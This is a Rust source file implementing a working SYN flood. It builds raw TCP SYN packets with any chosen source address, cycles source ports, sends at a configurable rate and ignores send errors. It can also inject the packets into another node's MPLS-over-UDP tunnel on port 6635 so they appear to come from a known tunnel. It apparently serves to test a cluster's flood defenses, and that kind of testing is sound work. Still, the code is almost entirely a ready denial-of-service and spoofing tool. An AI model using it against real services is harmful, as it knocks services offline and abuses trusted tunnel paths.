//! A flood of SYNs, as an attacker sends it: from a pod, or from another node through its tunnel.
//!
//! Each SYN is of a connection of its own: the source port goes round, from [`PORT_FIRST`] on. Nothing is done about what comes back.
//! From a pod they leave by a raw socket, with whatever source address is asked for. From another node they are the content of
//! datagrams to port 6635 of the node that is flooded, behind a label of its (MPLSoUDP); the node's own kernel sends these, so
//! that their outer source is a tunnel that the receiver knows.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use nix::errno::Errno;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

/// The first source port.
const PORT_FIRST: u16 = 1024;
/// UDP port of MPLS over UDP (RFC 7510).
const MPLS_UDP: u16 = 6635;
/// Pause after which what is due by then is sent.
const PAUSE: Duration = Duration::from_millis(2);

/// What to send.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    /// Source address of the SYNs.
    pub from: Ipv4Addr,
    /// Address and port of the service.
    pub to: SocketAddrV4,
    /// SYNs a second.
    pub per_second: u32,
    /// Through a tunnel, if not by the place's own route.
    pub tunnel: Option<Tunnel>,
}

/// A tunnel to another node.
#[derive(Debug, Clone, Copy)]
pub struct Tunnel {
    /// The node that is flooded.
    pub node: Ipv4Addr,
    /// A label of one of its pods.
    pub label: u32,
}

/// Sends until the process ends.
///
/// # Errors
/// The socket cannot be made, or the place has no way to the destination.
pub fn flood(plan: &Flood) -> Result<()> {
    let way = Way::open(plan)?;
    let (start, mut sent) = (Instant::now(), 0_u64);
    let mut port = PORT_FIRST;
    loop {
        let due = (start.elapsed().as_secs_f64() * f64::from(plan.per_second)) as u64;
        while sent < due {
            way.send(&syn(SocketAddrV4::new(plan.from, port), plan.to))?;
            port = port.checked_add(1).unwrap_or(PORT_FIRST);
            sent += 1;
        }
        thread::sleep(PAUSE);
    }
}

/// Where packets leave.
enum Way {
    Raw(OwnedFd, SockaddrIn),
    Tunnel(UdpSocket, [u8; 4]),
}

impl Way {
    fn open(plan: &Flood) -> Result<Self> {
        match plan.tunnel {
            None => {
                let (kind, flags) = (SockType::Raw, SockFlag::SOCK_CLOEXEC);
                let raw = socket(AddressFamily::Inet, kind, flags, SockProtocol::Raw)
                    .context("cannot open a raw socket")?;
                Ok(Self::Raw(raw, SockaddrIn::from(SocketAddrV4::new(*plan.to.ip(), 0))))
            }
            Some(Tunnel { node, label }) => {
                let udp = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).context("no UDP socket")?;
                udp.connect((node, MPLS_UDP)).with_context(|| format!("no way to {node}"))?;
                Ok(Self::Tunnel(udp, label_word(label)))
            }
        }
    }

    fn send(&self, packet: &[u8]) -> Result<()> {
        let sent = match self {
            Self::Raw(raw, to) => {
                sendto(raw.as_raw_fd(), packet, to, MsgFlags::empty()).map_err(io::Error::from)
            }
            Self::Tunnel(udp, label) => udp.send(&[label, packet].concat()),
        };
        match sent {
            Ok(_) => Ok(()),
            // A queue that is full, or an answer that nobody listens, does not end a flood.
            Err(error) => match error.raw_os_error().map(Errno::from_raw) {
                Some(Errno::ENOBUFS | Errno::ECONNREFUSED | Errno::EAGAIN | Errno::EINTR) => Ok(()),
                _ => Err(error).context("cannot send"),
            },
        }
    }
}

/// Label, no class, bottom of the stack, TTL 64.
fn label_word(label: u32) -> [u8; 4] {
    (label << 12 | 1 << 8 | 64).to_be_bytes()
}

/// An IPv4 packet with a SYN.
fn syn(from: SocketAddrV4, to: SocketAddrV4) -> [u8; 40] {
    let (source, destination) = (from.ip().octets(), to.ip().octets());
    let mut packet = [0; 40];
    let (ip, tcp) = packet.split_at_mut(20);
    ip[0] = 0x45;
    ip[3] = 40;
    ip[8..10].copy_from_slice(&[64, 6]);
    ip[12..16].copy_from_slice(&source);
    ip[16..20].copy_from_slice(&destination);
    let sum = checksum(&[ip]);
    ip[10..12].copy_from_slice(&sum);
    tcp[..2].copy_from_slice(&from.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[12..16].copy_from_slice(&[5 << 4, 0x02, 0xff, 0xff]);
    let sum = checksum(&[&source, &destination, &[0, 6, 0, 20], tcp]);
    tcp[16..18].copy_from_slice(&sum);
    packet
}

/// The Internet's checksum over parts of even length (RFC 1071).
fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let words = parts.iter().flat_map(|part| part.chunks_exact(2));
    let sum: u32 = words.map(|word| u32::from(word[0]) << 8 | u32::from(word[1])).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    (!((folded & 0xffff) + (folded >> 16)) as u16).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_the_checksums_that_a_receiver_expects() {
        let from = SocketAddrV4::new(Ipv4Addr::new(10, 47, 255, 234), 1024);
        let to = SocketAddrV4::new(Ipv4Addr::new(10, 105, 139, 202), 8888);
        let packet = syn(from, to);
        assert_eq!(checksum(&[&packet[..20]]), [0, 0]);
        assert_eq!(checksum(&[&packet[12..20], &[0, 6, 0, 20], &packet[20..]]), [0, 0]);
        assert_eq!(packet[20..24], [0x04, 0x00, 0x22, 0xb8]);
        assert_eq!(packet[33], 0x02);
    }

    #[test]
    fn a_label_stands_above_its_ttl() {
        assert_eq!(label_word(28), [0x00, 0x01, 0xc1, 64]);
    }
}
